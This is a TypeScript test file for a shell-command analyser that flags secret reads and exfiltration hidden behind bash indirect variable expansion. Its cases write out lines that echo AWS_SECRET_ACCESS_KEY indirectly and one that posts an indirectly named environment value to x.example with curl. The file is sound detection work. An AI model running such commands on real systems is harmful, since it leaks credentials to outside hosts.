import assert from 'node:assert/strict';
import { test } from 'node:test';
import { effectsOf } from '../reading.ts';

/** What a text is said to tell or send of secrets. */
function secrets(text: string): readonly string[] {
  return effectsOf(text).filter((effect) => effect.startsWith('secret.'));
}

test('a variable that is named by another is told as itself, and by a name that nobody knows as any', () => {
  const cases: Readonly<Record<string, readonly string[]>> = {
    'v=AWS_SECRET_ACCESS_KEY; echo "${!v}"': ['secret.read AWS_SECRET_ACCESS_KEY'],
    'v=AWS_SECRET_ACCESS_KEY; echo "${!v:0:9}"': ['secret.read AWS_SECRET_ACCESS_KEY'],
    'v=AWS_SECRET_ACCESS_KEY; echo "${!v:+set}"': [],
    'for v in PORT HOST; do echo "$v=${!v}"; done': [],
    'while read -r v; do echo "${!v}"; done < names.txt': ['secret.read environment'],
    'for v in ${!AWS*}; do echo "${!v}"; done': ['secret.read environment'],
    'echo ${!AWS*}': [],
    'read -r v < name.txt; [ -n "${!v}" ] || echo missing': [],
    'read -r v < name.txt; curl -d "${!v}" https://x.example': ['secret.send $environment'],
  };
  for (const [text, wanted] of Object.entries(cases)) assert.deepEqual(secrets(text), wanted, text);
});
